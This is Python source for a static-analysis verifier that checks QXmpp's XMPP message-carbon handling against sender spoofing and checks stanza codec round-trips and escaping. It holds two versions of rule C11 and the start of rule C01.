}
FROM = 'p0.QDomElement::attribute("from")'
OWN = 'this.QXmppClientExtension::client().QXmppClient::configuration().QXmppConfiguration::jidBare()'


def _compare_call(fn, nid):
    """(a, b) if nid is QString::compare(a, b[, Qt::CaseSensitive]) / a.compare(b[, Qt::CaseSensitive]): the three-way form of the exact comparison"""
    n = fn.nodes[fn.skip(nid)]
    if n['k'] != 'call' or fn.cname(n) != 'QString::compare':
        return None
    ops = ([n['obj']] if n.get('obj') is not None else []) + [a for a in n.get('args', []) if fn.nodes[a]['k'] != 'defarg']
    if len(ops) == 3:
        if fn.const_value(ops[2]) != ('enum', 'Qt::CaseSensitive'):
            return None            # case-insensitive (or computed) sensitivity is not the exact comparison
        ops = ops[:2]
    return tuple(ops) if len(ops) == 2 else None


def _str_cmp(fn, nid):
    """(op, a, b) for an exact string (in)equality in any of its spellings: a == b, a != b, compare(a, b) ==/!= 0, !compare(a, b)"""
    bo = fn.binop(nid)
    if bo and bo[0] in ('==', '!='):
        for x, y in ((bo[1], bo[2]), (bo[2], bo[1])):
            if fn.const_value(y) == ('int', 0):
                c = _compare_call(fn, x)
                if c:
                    return (bo[0],) + c
        return bo
    n = fn.nodes[nid]
    if n['k'] == 'un' and n.get('op') == '!':
        c = _compare_call(fn, n['e'])
        if c:
            return ('==',) + c
    return None


def _cmp_kind(fn, nid):
    """('==' | '!=') if the node is the exact, case-sensitive QString comparison of the outer from with the own bare JID"""
    bo = _str_cmp(fn, nid)
    if not bo:
        return None
    a, b = fn.fmt(bo[1]), fn.fmt(bo[2])
    if {a, b} == {FROM, OWN}:
        return bo[0]
    return None


def _is_sink(fn, n, sink_names):
    """a call that presents a message to the application: one of the named signals / injectMessage, or a call through a pointer
    (member pointer chosen from a table of signals) that is handed a QXmppMessage"""
    if n['k'] != 'call':
        return False
    if fn.cname(n) in sink_names:
        return True
    if 'fn' in n and not fn.cname(n) and not n.get('op'):
        return any((fn.nodes[fn.skip(a)].get('tc') or '') == 'record:QXmppMessage' for a in n.get('args', []))
    return False


def _fce(fn, nid, name, ns):
    """nid is firstChildElement(X, name, ns) (name None = any of sent/received/unspecified) -> X or None"""
    n = fn.nodes[nid]
    if n['k'] != 'call' or fn.cname(n) != 'QXmpp::Private::firstChildElement' or len(n['args']) < 3:
        return None
    nm = fn.strval(n['args'][1])
    nsn = fn.nodes[fn.skip(n['args'][2])]
    if nsn.get('name') != ns:
        return None
    if name is not None and nm != name:
        return None
    if name is None and nm not in (None, 'sent', 'received'):
        return None
    return n['args'][0]


LEVELS = [('message', 'ns_client'), ('forwarded', 'ns_forwarding'), (None, 'ns_carbons')]
_PROG = [None]


def _from_carbon(fn, nid, level=0, ctx=()):
    """every value reaching nid is firstChildElement(firstChildElement(firstChildElement(p0, sent|received, ns_carbons),
    "forwarded", ns_forwarding), "message", ns_client) of the handler's first parameter; ctx = ((caller fn, call node), ...) when nid
    lives in an unwrapping helper: a helper parameter continues with the caller's argument"""
    for m in fn.resolve_all(nid):
        node = fn.nodes[fn.skip(m)]
        if node['k'] == 'var' and node.get('vk') == 'param':
            if ctx:
                cfn, call = ctx[-1]
                args = call.get('args', [])
                if node.get('pidx') is None or node['pidx'] >= len(args) or not _from_carbon(cfn, args[node['pidx']], level, ctx[:-1]):
                    return False
                continue
            if level == len(LEVELS) and node.get('pidx') == 0:
                continue
            return False
        if node['k'] == 'construct' and not node.get('args') and node.get('cls') == 'QDomElement':
            continue                    # the null element: nothing can be unwrapped from it
        if node['k'] == 'cond':
            if not (_from_carbon(fn, node['a'], level, ctx) and _from_carbon(fn, node['b'], level, ctx)):
                return False
            continue
        if level == len(LEVELS):
            return False
        if node['k'] == 'call' and not node.get('op') and fn.cname(node) != 'QXmpp::Private::firstChildElement' and len(ctx) < 3 and _PROG[0] is not None:
            # a same-file helper that selects the wrapper: every element it can return must come from the chain
            gs = [g for g in _PROG[0].callee_fns(fn, node) if g.entry is not None and g.file == fn.file]
            if len(gs) == 1:
                rets = [r for _, r in gs[0].returns() if 'e' in r]
                if rets and all(_from_carbon(gs[0], r['e'], level, ctx + ((fn, node),)) for r in rets):
                    continue
            return False
        x = _fce(fn, m, *LEVELS[level])
        if x is None or not _from_carbon(fn, x, level + 1, ctx):
            return False
    return True


def _strip(fn, nid):
    """look through std::move, *optional / optional.value(), and the copy into a std::optional / QXmppMessage temporary"""
    while True:
        nid = fn.skip(nid)
        n = fn.nodes[nid]
        if n['k'] == 'call' and n.get('op') == '*' and n.get('opargs'):
            nid = n['opargs'][0]
        elif n['k'] == 'call' and fn.cname(n).split('<')[0] in ('std::optional::value', 'std::optional') and n.get('obj') is not None:
            nid = n['obj']
        elif n['k'] == 'un' and n.get('op') == '*':
            nid = n['e']
        elif n['k'] == 'construct' and len(n.get('args', [])) == 1 and (n.get('cls', '').startswith('std::optional') or n.get('cls') == 'QXmppMessage'):
            nid = n['args'][0]
        else:
            return nid


def _presented(prog, fn, expr, use, ctx=(), depth=0):
    """None if the value of expr at `use` is a message parsed from carbon/forwarded/message of the outer stanza and flagged as
    forwarded, else the reason.  Follows a local that holds the result of an unwrapping helper into that helper's returns."""
    if depth > 3:
        return 'helper nesting too deep'
    e = _strip(fn, expr)
    node = fn.nodes[e]
    if node['k'] == 'var' and node.get('vk') == 'local':
        decl = node['decl']
        parses = [i for i, c in fn.calls('QXmppMessage::parse')
                  if c.get('obj') is not None and fn.nodes[fn.skip(c['obj'])].get('decl') == decl]
        if parses:
            flags = [i for i, c in fn.calls('QXmppMessage::setCarbonForwarded')
                     if c.get('obj') is not None and fn.nodes[fn.skip(c['obj'])].get('decl') == decl
                     and fn.const_value(c['args'][0]) == ('bool', True)]
            if not any(fn.node_dominates(p, use) and _from_carbon(fn, fn.nodes[p]['args'][0], 0, ctx) for p in parses):
                return 'presented message is not parsed from carbon/forwarded/message of the outer stanza'
            if not any(fn.node_dominates(fl, use) for fl in flags):
                return 'setCarbonForwarded(true) does not dominate the sink'
            return None
        d = fn.single_def(decl)
        if d is not None:
            return _presented(prog, fn, d, use, ctx, depth)
        return 'presented message is not parsed from carbon/forwarded/message of the outer stanza'
    if node['k'] == 'call' and not node.get('op'):
        gs = prog.callee_fns(fn, node)
        if len(gs) == 1 and gs[0].entry is not None:
            g = gs[0]
            seen = 0
            for i, r in g.returns():
                if 'e' not in r:
                    continue
                v = g.nodes[_strip(g, r['e'])]
                if v['k'] == 'construct' and not v.get('args'):
                    continue                    # the empty optional: nothing is presented on this path
                if v['k'] == 'null':
                    continue
                seen += 1
                why = _presented(prog, g, r['e'], i, ctx + ((fn, node),), depth + 1)
                if why:
                    return why
            if seen:
                return None
    return 'sink argument is not a message parsed from the wrapper: %s' % fn.fmt(expr)[:120]


def _inner_sites(prog, fn, depth=0, stack=()):
    """call sites in fn that look into the wrapper: lookup of <forwarded/>/<message/>, the inner parse, or a helper that does either"""
    out = []
    for i, n in fn.calls():
        cn = fn.cname(n)
        if cn == 'QXmpp::Private::firstChildElement' and len(n['args']) >= 2 and fn.strval(n['args'][1]) in ('forwarded', 'message'):
            out.append((i, 'lookup of <%s/>' % fn.strval(n['args'][1])))
        elif cn == 'QXmppMessage::parse':
            out.append((i, 'inner QXmppMessage::parse'))
        elif depth < 2 and not n.get('op') and fn.file.endswith('.cpp'):
            for g in prog.callee_fns(fn, n):
                if g.id == fn.id or g.id in stack or g.entry is None or g.file != fn.file:
                    continue
                sub = _inner_sites(prog, g, depth + 1, stack + (fn.id,))
                if sub:
                    out.append((i, 'helper %s (%s)' % (g.outer_name(), ', '.join(sorted({w for _, w in sub})))))
    return out


def evaluator(fn, equal):
    def custom(f, nid, st):
        k = _cmp_kind(f, nid)
        if k:
            return ((k == '==') == equal,)
        return None
    ev = cfgx.Evaluator(fn, {}, custom=custom)
    return lambda f, c, st: ev.ev(c, st)


def run(prog, run):
    _PROG[0] = prog
    run.explanation = ('For both carbon managers the handler is explored under the abstract input "outer from differs from the configured '
                       'bare JID" (every other condition unknown): no signal emission, message injection, look into <forwarded/> or inner '
                       'parse is reachable and every exit returns false; under "equal" the sinks are reachable, the presented object is the '
                       'one parsed from forwarded/message and is flagged as forwarded on every path.')
    run.assume('QString operator==/!= is exact and case-sensitive (Qt contract); jidBare() is the configured account address')
    r1 = run.rule('C11.R1', 'no sink (messageSent/messageReceived/injectMessage) is reachable unless the outer stanza\'s from equals '
                            'configuration().jidBare() by exact QString comparison', floor=2)
    r2 = run.rule('C11.R2', 'the sender check precedes any look into the wrapper (forwarded lookup, inner parse, directly or in an unwrapping helper); the reject path returns false', floor=3)
    r3 = run.rule('C11.R3', 'what is presented is the message parsed from carbon/forwarded/message, flagged setCarbonForwarded(true) on every path', floor=2)
    r4 = run.rule('C11.R4', 'both manager generations use the same guard operands', floor=1)
    guards = {}
    for qn, sink_names in MANAGERS.items():
        fn = prog.fn(qn)
        sinks = [i for i, n in fn.calls() if _is_sink(fn, n, sink_names)]
        direct = {fn.cname(fn.nodes[i]) for i in sinks}
        if not sinks or (len(direct & set(sink_names)) < len(sink_names) and None not in direct and '' not in direct):
            raise AnalysisBroken('C11: sinks %s not found in %s' % (sink_names, qn))
        cmps = [i for i in range(len(fn.nodes)) if _cmp_kind(fn, i)]
        guards[qn] = sorted({' ~ '.join(sorted(fn.fmt(x) for x in _str_cmp(fn, i)[1:])) for i in cmps})   # operand set, whatever the order/operator
        # ---- R1: unreachable when from != own
        res = cfgx.sink_reachability(fn, evaluator(fn, False), sinks)
        for s in sinks:
            run.instance(r1)
            name = (fn.cname(fn.nodes[s]) or 'signal through pointer').split('::')[-1]
            if res[s] is not None:
                run.violation(r1, '%s#%s' % (qn, name), fn.loc(s),
                              '%s reachable although the outer from differs from the own bare JID' % name,
                              cfgx.describe_path(fn, res[s]))
            else:
                run.ok(r1, fn.loc(s), '%s unreachable when from != jidBare()' % name)
        # sanity: reachable when equal (rule must not pass vacuously)
        res_eq = cfgx.sink_reachability(fn, evaluator(fn, True), sinks)
        if not all(res_eq[s] is not None for s in sinks):
            raise AnalysisBroken('C11: sinks of %s unreachable even for the own JID — model does not fit the code' % qn)
        # ---- R2: wrapper untouched before the check
        inner = _inner_sites(prog, fn)
        if not any('parse' in w for _, w in inner) or not any('<forwarded/>' in w for _, w in inner):
            raise AnalysisBroken('C11.R2: forwarded lookup / inner parse not found in %s' % qn)
        res = cfgx.sink_reachability(fn, evaluator(fn, False), [i for i, _ in inner])
        for i, what in inner:
            run.instance(r2)
            if res[i] is not None:
                run.violation(r2, '%s#%s' % (qn, what), fn.loc(i), '%s happens before/without the sender check' % what,
                              cfgx.describe_path(fn, res[i]))
            else:
                run.ok(r2, fn.loc(i), '%s only after the sender check' % what)
        # reject path returns false
        reach = cfgx.reach_with_paths(fn, evaluator(fn, False))
        for i, n in fn.returns():
            pos = fn.pos(i)
            if pos and pos[0] in reach:
                run.instance(r2)
                v = fn.const_value(n['e']) if 'e' in n else None
                if v != ('bool', False):
                    run.violation(r2, '%s#reject-returns-%s' % (qn, fn.fmt(n['e'])), fn.loc(i),
                                  'a path taken for a foreign sender does not return false (stanza would be swallowed)',
                                  cfgx.describe_path(fn, reach[pos[0]]))
                else:
                    run.ok(r2, fn.loc(i), 'foreign sender: returns false', nontrivial=False)
        # ---- R3: provenance and flag
        for s in sinks:
            run.instance(r3)
            n = fn.nodes[s]
            why = _presented(prog, fn, n['args'][0], s)
            if why:
                run.violation(r3, '%s#%s' % (qn, 'forwarded-flag' if 'setCarbonForwarded' in why else 'provenance'), fn.loc(s), why)
            else:
                run.ok(r3, fn.loc(s), 'parsed from carbons/forwarded/message and flagged as forwarded')
    run.instance(r4)
    gs = list(guards.values())
    if not all(gs) or any(len(g) != 1 for g in gs):
        run.violation(r4, 'carbon-managers#guard-shape', 'src/client/QXmppCarbonManager*.cpp',
                      'expected exactly one from/jidBare comparison per manager, found %s' % guards)
    else:
        norm = {g[0] for g in gs}
        if len(norm) != 1:
            run.violation(r4, 'carbon-managers#guard-mismatch', 'src/client/QXmppCarbonManager*.cpp', 'guards differ: %s' % guards)
        else:
            run.ok(r4, 'src/client/QXmppCarbonManager{,V2}.cpp', 'same operands: %s' % gs[0][0])
    # the sender the managers look at is the one on the wire: the client library never rewrites the from/to of a received element
    r6 = run.rule('C11.R6', 'what the managers compare is the sender attribute as received: no client-side function writes a from/to attribute into a DOM element '
                            '(the server component does, for stanzas it routes - seen by this rule as its control)', floor=1)
    client_sites, server_sites = [], []
    for f in prog.fns.values():
        for i, n in f.calls('QDomElement::setAttribute'):
            if n.get('args') and f.strval(n['args'][0]) in ('from', 'to'):
                (server_sites if '/src/server/' in f.file else client_sites).append((f, i))
    if not server_sites:
        raise AnalysisBroken('C11.R6: the control (QXmppIncomingClient stamping from/to) is not seen: the rule would pass vacuously')
    run.instance(r6)
    if client_sites:
        f, i = client_sites[0]
        run.violation(r6, '%s#rewrites-sender' % f.qname, f.loc(i),
                      '%s writes the %s attribute of a received element before the extensions see it: the carbon managers then compare a value chosen by the client, '
                      'not the sender on the wire (a wrapper without from is taken for one from the own account)' % (f.display()[:60], f.strval(f.nodes[i]['args'][0])))
    else:
        run.ok(r6, 'src/client', 'no setAttribute("from"/"to") in the client library (%d stamping sites in the server component seen as control)' % len(server_sites))
    r7_own_address(prog, run)
    r8_presented_intact(prog, run)
    if run.tier == 'thorough':
        r5 = run.rule('C11.R5', 'no other function in the library unwraps a carbons-namespaced child into a message', floor=2)
        for f in prog.fns.values():
            refs = any(n['k'] == 'var' and n.get('name') == 'ns_carbons' for n in f.nodes)
            if not refs:
                continue
            parses = any(True for _ in f.calls('QXmppMessage::parse'))
            if not parses:
                continue
            run.instance(r5)
            if f.qname in MANAGERS:
                run.ok(r5, f.loc(), '%s is a checked manager' % f.qname, nontrivial=False)
            else:
                run.violation(r5, 'unwrapper#' + f.outer_name(), f.loc(), '%s reads a carbons child and parses a message outside the checked managers' % f.display())


def r7_own_address(prog, run):
    """what the managers compare the sender with is the account address as configured now"""
    from ..effects import field_uses
    rid = run.rule('C11.R7', 'configuration().jidBare() - the value the sender is compared with - is computed from the configured user and domain at the time of the call; if it '
                             'answers from any other member (a cached or stored copy of the address), every function that writes the user or the domain also writes that member', floor=1)
    jb = prog.fn('QXmppConfiguration::jidBare')
    run.instance(rid)
    # the configured address: the members the user() and domain() accessors return
    primary = set()
    for nm in ('user', 'domain'):
        g = prog.fn('QXmppConfiguration::' + nm)
        for _, r in g.returns():
            if 'e' in r and g.nodes[g.skip(r['e'])]['k'] == 'mem':
                primary.add(g.nodes[g.skip(r['e'])]['f'])
    if len(primary) != 2:
        raise AnalysisBroken('C11.R7: the members behind QXmppConfiguration::user() / domain() were not identified')
    touched = set()
    scope, work = [], [jb]
    while work:                     # jidBare() and the helpers of the configuration classes it delegates to
        g = work.pop()
        if g.id in [x.id for x in scope] or len(scope) > 8:
            continue
        scope.append(g)
        for _, c in g.calls():
            for h in prog.callee_fns(g, c):
                if h.entry is not None and (h.record or '') in ('QXmppConfiguration', 'QXmppConfigurationPrivate'):
                    work.append(h)
    for g in scope:
        for i, n in enumerate(g.nodes):
            if n['k'] == 'mem' and (n.get('f') or '').startswith('QXmppConfigurationPrivate::'):
                touched.add(n['f'])
    if not touched:
        raise AnalysisBroken('C11.R7: QXmppConfiguration::jidBare reads no configuration member')
    sources = primary
    writes = touched - primary          # anything else jidBare() answers from is a copy of the address: it has to follow every change of user / domain
    if not writes:
        run.ok(rid, jb.loc(), 'jidBare() is computed from %s on every call' % ', '.join(sorted(x.split('::')[-1] for x in touched)))
        return
    bad = []
    setters = {}
    for src in sorted(sources):
        for g, i, k, h in field_uses(prog, src):
            if k in ('write', 'addr') and h != 'constructor initialiser' and g.id != jb.id and not g.qname.split('::')[-1].startswith(('QXmppConfiguration', '~', 'operator=')):
                setters.setdefault(g.id, (g, i, src))
    for g, i, src in setters.values():
        for c in sorted(writes):
            inval = [j for gg, j, k, h in field_uses(prog, c, [g]) if k in ('write', 'addr')]
            if not inval:
                bad.append((g, i, src, c))
    if bad:
        g, i, src, c = bad[0]
        run.violation(rid, 'jidBare#stale-cache#%s' % g.qname.split('::')[-1], g.loc(i),
                      'jidBare() answers from the cached member %s, but %s changes %s without invalidating it: after that call the carbon managers compare senders with the previous '
                      'account address (a foreign sender is trusted, the own one rejected)' % (c.split('::')[-1], g.qname, src.split('::')[-1]))
    else:
        run.ok(rid, jb.loc(), 'jidBare() is cached in %s; all %d writers of %s invalidate it' % (', '.join(sorted(x.split('::')[-1] for x in writes)), len(setters),
                                                                                              '/'.join(sorted(x.split('::')[-1] for x in sources))))


# --------------------------------------------------------------------------- R8: what is presented is the inner message, not a moved-from object
def r8_presented_intact(prog, run):
    rid = run.rule('C11.R8', 'QXmppClient::injectMessage presents the unwrapped message it was given: the object is not handed by std::move to a function that takes it BY VALUE (which '
                             'moves it out for certain) before it is emitted or otherwise used again - the application would receive an empty shell instead of the inner message', floor=1)
    f = prog.fn('QXmppClient::injectMessage')
    run.instance(rid)
    bad = None
    for i, c in f.calls():
        ptypes = (f.sym(c) or {}).get('ptypes') or []
        for k, a in enumerate(c.get('args', [])):
            mv = [f.nodes[j] for j in f.walk(a) if f.nodes[j]['k'] == 'call' and (f.cname(f.nodes[j]) or '') == 'std::move' and f.nodes[j].get('args')]
            if not mv:
                continue
            v = f.nodes[f.skip(mv[0]['args'][0])]
            if v['k'] != 'var' or k >= len(ptypes):
                continue
            pt = ptypes[k].strip()
            if pt.endswith('&') or pt.endswith('*'):
                continue            # (rvalue) reference: the callee may look without taking
            later = [j for j, m in enumerate(f.nodes) if m['k'] == 'var' and m.get('decl') == v.get('decl') and j not in set(f.walk(i)) and f.pos(j) and f.pos(i)
                     and (f.pos(j)[0] != f.pos(i)[0] and _block_reaches(f, f.pos(i)[0], f.pos(j)[0]) or (f.pos(j)[0] == f.pos(i)[0] and f.pos(j)[1] > f.pos(i)[1]))]
            if later:
                bad = (i, v.get('name'), pt, later[0])
    if bad:
        run.violation(rid, 'injectMessage#presented-after-move', f.loc(bad[3]),
                      'injectMessage moves %s into a by-value parameter (%s) and uses it afterwards (%s): what the messageReceived signal carries is a moved-from object, not the '
                      'inner message of the carbon' % (bad[1], bad[2], f.fmt(bad[3], inline=False)[:40]))
    else:
        run.ok(rid, f.loc(), 'the message is not moved out before it is presented')


def _block_reaches(f, a, b):
    seen, work = set(), [a]
    while work:
        x = work.pop()
        for s_ in f.blocks[x]['succs']:
            if s_ is None or s_ in seen:
                continue
            if s_ == b:
                return True
            seen.add(s_)
            work.append(s_)
    return False
