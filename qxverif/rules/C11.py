"""C11 — carbon copies are trusted only when they come from the user's own bare JID."""
from .. import cfgx
from ..build import AnalysisBroken

UNITS = ['client/QXmppCarbonManager.cpp', 'client/QXmppCarbonManagerV2.cpp', 'client/QXmppClient.cpp', 'server/QXmppIncomingClient.cpp']

MANAGERS = {
    'QXmppCarbonManager::handleStanza': ['QXmppCarbonManager::messageSent', 'QXmppCarbonManager::messageReceived'],
    'QXmppCarbonManagerV2::handleStanza': ['QXmppClientExtension::injectMessage'],
}
FROM = 'p0.QDomElement::attribute("from")'
OWN = 'this.QXmppClientExtension::client().QXmppClient::configuration().QXmppConfiguration::jidBare()'


def _cmp_kind(fn, nid):
    """('==' | '!=') if the node is the exact, case-sensitive QString comparison of the outer from with the own bare JID"""
    bo = fn.binop(nid)
    if not bo or bo[0] not in ('==', '!='):
        return None
    a, b = fn.fmt(bo[1]), fn.fmt(bo[2])
    if {a, b} == {FROM, OWN}:
        return bo[0]
    return None


def _fce(fn, nid, name, ns):
    """nid is firstChildElement(X, name, ns) (name None = any of sent/received/unspecified) -> X or None"""
    n = fn.nodes[nid]
    if n['k'] != 'call' or fn.cname(n) != 'QXmpp::Private::firstChildElement' or len(n['args']) < 3:
        return None
    nm = fn.strval(n['args'][1])
    nsn = fn.nodes[fn.skip(n['args'][2])]
    if nsn.get('name') != ns:
        return None
    if name is not None and nm != name:
        return None
    if name is None and nm not in (None, 'sent', 'received'):
        return None
    return n['args'][0]


def _from_carbon(fn, nid):
    """every value reaching nid is firstChildElement(firstChildElement(firstChildElement(p0, sent|received, ns_carbons),
    "forwarded", ns_forwarding), "message", ns_client)"""
    for m in fn.resolve_all(nid):
        f1 = _fce(fn, m, 'message', 'ns_client')
        if f1 is None:
            return False
        for fw in fn.resolve_all(f1):
            f2 = _fce(fn, fw, 'forwarded', 'ns_forwarding')
            if f2 is None:
                return False
            for c in fn.resolve_all(f2):
                f3 = _fce(fn, c, None, 'ns_carbons')
                if f3 is None:
                    return False
                root = fn.nodes[fn.skip(f3)]
                if not (root['k'] == 'var' and root.get('vk') == 'param' and root.get('pidx') == 0):
                    return False
    return True


def evaluator(fn, equal):
    def custom(f, nid, st):
        k = _cmp_kind(f, nid)
        if k:
            return ((k == '==') == equal,)
        return None
    ev = cfgx.Evaluator(fn, {}, custom=custom)
    return lambda f, c, st: ev.ev(c, st)


def run(prog, run):
    run.explanation = ('For both carbon managers the handler is explored under the abstract input "outer from differs from the configured '
                       'bare JID" (every other condition unknown): no signal emission, message injection, look into <forwarded/> or inner '
                       'parse is reachable and every exit returns false; under "equal" the sinks are reachable, the presented object is the '
                       'one parsed from forwarded/message and is flagged as forwarded on every path.')
    run.assume('QString operator==/!= is exact and case-sensitive (Qt contract); jidBare() is the configured account address')
    r1 = run.rule('C11.R1', 'no sink (messageSent/messageReceived/injectMessage) is reachable unless the outer stanza\'s from equals '
                            'configuration().jidBare() by exact QString comparison', floor=3)
    r2 = run.rule('C11.R2', 'the sender check precedes any look into the wrapper (forwarded lookup, inner parse); the reject path returns false', floor=4)
    r3 = run.rule('C11.R3', 'what is presented is the message parsed from carbon/forwarded/message, flagged setCarbonForwarded(true) on every path', floor=2)
    r4 = run.rule('C11.R4', 'both manager generations use the same guard operands', floor=1)
    guards = {}
    for qn, sink_names in MANAGERS.items():
        fn = prog.fn(qn)
        sinks = [i for i, n in fn.calls() if fn.cname(n) in sink_names]
        if len(sinks) < len(sink_names):
            raise AnalysisBroken('C11: sinks %s not found in %s' % (sink_names, qn))
        cmps = [i for i in range(len(fn.nodes)) if _cmp_kind(fn, i)]
        guards[qn] = sorted({' ~ '.join(sorted(fn.fmt(x) for x in fn.binop(i)[1:])) for i in cmps})   # operand set, whatever the order/operator
        # ---- R1: unreachable when from != own
        res = cfgx.sink_reachability(fn, evaluator(fn, False), sinks)
        for s in sinks:
            run.instance(r1)
            name = fn.cname(fn.nodes[s]).split('::')[-1]
            if res[s] is not None:
                run.violation(r1, '%s#%s' % (qn, name), fn.loc(s),
                              '%s reachable although the outer from differs from the own bare JID' % name,
                              cfgx.describe_path(fn, res[s]))
            else:
                run.ok(r1, fn.loc(s), '%s unreachable when from != jidBare()' % name)
        # sanity: reachable when equal (rule must not pass vacuously)
        res_eq = cfgx.sink_reachability(fn, evaluator(fn, True), sinks)
        if not all(res_eq[s] is not None for s in sinks):
            raise AnalysisBroken('C11: sinks of %s unreachable even for the own JID — model does not fit the code' % qn)
        # ---- R2: wrapper untouched before the check
        inner = []
        for i, n in fn.calls():
            cn = fn.cname(n)
            if cn == 'QXmpp::Private::firstChildElement' and len(n['args']) >= 2 and fn.strval(n['args'][1]) in ('forwarded', 'message'):
                inner.append((i, 'lookup of <%s/>' % fn.strval(n['args'][1])))
            elif cn == 'QXmppMessage::parse':
                inner.append((i, 'inner QXmppMessage::parse'))
        if len(inner) < 2:
            raise AnalysisBroken('C11.R2: forwarded lookup / inner parse not found in %s' % qn)
        res = cfgx.sink_reachability(fn, evaluator(fn, False), [i for i, _ in inner])
        for i, what in inner:
            run.instance(r2)
            if res[i] is not None:
                run.violation(r2, '%s#%s' % (qn, what), fn.loc(i), '%s happens before/without the sender check' % what,
                              cfgx.describe_path(fn, res[i]))
            else:
                run.ok(r2, fn.loc(i), '%s only after the sender check' % what)
        # reject path returns false
        reach = cfgx.reach_with_paths(fn, evaluator(fn, False))
        for i, n in fn.returns():
            pos = fn.pos(i)
            if pos and pos[0] in reach:
                run.instance(r2)
                v = fn.const_value(n['e']) if 'e' in n else None
                if v != ('bool', False):
                    run.violation(r2, '%s#reject-returns-%s' % (qn, fn.fmt(n['e'])), fn.loc(i),
                                  'a path taken for a foreign sender does not return false (stanza would be swallowed)',
                                  cfgx.describe_path(fn, reach[pos[0]]))
                else:
                    run.ok(r2, fn.loc(i), 'foreign sender: returns false', nontrivial=False)
        # ---- R3: provenance and flag
        for s in sinks:
            run.instance(r3)
            n = fn.nodes[s]
            arg = fn.nodes[fn.skip(n['args'][0])]
            if arg['k'] != 'var':
                run.violation(r3, '%s#presented' % qn, fn.loc(s), 'sink argument is not the parsed local message: %s' % fn.fmt(n['args'][0]))
                continue
            decl = arg['decl']
            parses = [i for i, c in fn.calls('QXmppMessage::parse')
                      if c.get('obj') is not None and fn.nodes[fn.skip(c['obj'])].get('decl') == decl]
            flags = [i for i, c in fn.calls('QXmppMessage::setCarbonForwarded')
                     if c.get('obj') is not None and fn.nodes[fn.skip(c['obj'])].get('decl') == decl
                     and fn.const_value(c['args'][0]) == ('bool', True)]
            ok_parse = False
            for p in parses:
                if fn.node_dominates(p, s) and _from_carbon(fn, fn.nodes[p]['args'][0]):
                    ok_parse = True
            ok_flag = any(fn.node_dominates(fl, s) for fl in flags)
            if not ok_parse:
                run.violation(r3, '%s#provenance' % qn, fn.loc(s), 'presented message is not parsed from carbon/forwarded/message of the outer stanza')
            elif not ok_flag:
                run.violation(r3, '%s#forwarded-flag' % qn, fn.loc(s), 'setCarbonForwarded(true) does not dominate the sink')
            else:
                run.ok(r3, fn.loc(s), 'parsed from carbons/forwarded/message and flagged as forwarded')
    run.instance(r4)
    gs = list(guards.values())
    if not all(gs) or any(len(g) != 1 for g in gs):
        run.violation(r4, 'carbon-managers#guard-shape', 'src/client/QXmppCarbonManager*.cpp',
                      'expected exactly one from/jidBare comparison per manager, found %s' % guards)
    else:
        norm = {g[0] for g in gs}
        if len(norm) != 1:
            run.violation(r4, 'carbon-managers#guard-mismatch', 'src/client/QXmppCarbonManager*.cpp', 'guards differ: %s' % guards)
        else:
            run.ok(r4, 'src/client/QXmppCarbonManager{,V2}.cpp', 'same operands: %s' % gs[0][0])
    # the sender the managers look at is the one on the wire: the client library never rewrites the from/to of a received element
    r6 = run.rule('C11.R6', 'what the managers compare is the sender attribute as received: no client-side function writes a from/to attribute into a DOM element '
                            '(the server component does, for stanzas it routes - seen by this rule as its control)', floor=1)
    client_sites, server_sites = [], []
    for f in prog.fns.values():
        for i, n in f.calls('QDomElement::setAttribute'):
            if n.get('args') and f.strval(n['args'][0]) in ('from', 'to'):
                (server_sites if '/src/server/' in f.file else client_sites).append((f, i))
    if not server_sites:
        raise AnalysisBroken('C11.R6: the control (QXmppIncomingClient stamping from/to) is not seen: the rule would pass vacuously')
    run.instance(r6)
    if client_sites:
        f, i = client_sites[0]
        run.violation(r6, '%s#rewrites-sender' % f.qname, f.loc(i),
                      '%s writes the %s attribute of a received element before the extensions see it: the carbon managers then compare a value chosen by the client, '
                      'not the sender on the wire (a wrapper without from is taken for one from the own account)' % (f.display()[:60], f.strval(f.nodes[i]['args'][0])))
    else:
        run.ok(r6, 'src/client', 'no setAttribute("from"/"to") in the client library (%d stamping sites in the server component seen as control)' % len(server_sites))
    if run.tier == 'thorough':
        r5 = run.rule('C11.R5', 'no other function in the library unwraps a carbons-namespaced child into a message', floor=2)
        for f in prog.fns.values():
            refs = any(n['k'] == 'var' and n.get('name') == 'ns_carbons' for n in f.nodes)
            if not refs:
                continue
            parses = any(True for _ in f.calls('QXmppMessage::parse'))
            if not parses:
                continue
            run.instance(r5)
            if f.qname in MANAGERS:
                run.ok(r5, f.loc(), '%s is a checked manager' % f.qname, nontrivial=False)
            else:
                run.violation(r5, 'unwrapper#' + f.outer_name(), f.loc(), '%s reads a carbons child and parses a message outside the checked managers' % f.display())
