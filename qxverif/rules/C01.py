"""C01 — stanza codecs lose nothing: structural necessary conditions of serialize∘parse = id.

R1  every attribute / child element name a codec class writes from a field is a name the same class reads
R2  the root element a class writes is the one its own reader / predicate (or, for nested payloads, its user) expects
R3  string tables used to (de)serialise an enum have one entry per enumerator
R3b enum->string and string->enum functions of the same enum agree on their literals
R4  the typed integer helper accepts the whole range of the type it is instantiated for
R5  a child consumed by typed parsing is not also captured generically (no growth per round trip)
R6  field values reach the output only through escaping QXmlStreamWriter calls; names are never taken from free text
"""
import re
from collections import defaultdict

from .. import codec
from ..build import AnalysisBroken
from ..effects import classify_use

UNITS = 'all'

# R6: documented raw write
RAW_OK = {'QXmppMessage::serializeExtensions': 'XHTML-IM body is written raw by design (documented exception in the property)'}
# R6: verbatim DOM copies whose names come from a parsed (hence valid) DOM
DYN_NAME_OK = {'QXmppElement::toXml': 'verbatim copy of a parsed DOM element',
               'QXmppElementPrivate': 'verbatim copy of a parsed DOM element'}


def strip_prefix(name):
    # QDom is used with namespace processing: attribute("lang") matches xml:lang, tagName() of <db:result/> is "result"
    return name.split(':')[-1]


def decoration_of_element(f, i, W):
    """the constant-valued write happens whenever its enclosing element is started (nearest dominating start element)"""
    pos = f.pos(i)
    if pos is None:
        return False
    starts = [j for kk, nn, ff, j, ee in W.items if ff.id == f.id and kk == 'elem' and j != i and f.node_dominates(j, i)]
    if not starts:
        return ('b', pos[0]) in f.pdom().get(('b', f.entry), set())
    near = starts[0]
    for j in starts[1:]:
        if f.node_dominates(near, j):
            near = j
    npos = f.pos(near)
    return npos[0] == pos[0] or ('b', pos[0]) in f.pdom().get(('b', npos[0]), set())


def predicate_reads(prog, rec, cache):
    """names compared in the class's static is*/check* predicates (incl. nested lambdas)"""
    out = set()
    for f in prog.fns.values():
        if f.record == rec and not f.is_lambda and (f.name.startswith('is') or f.name.startswith('check')):
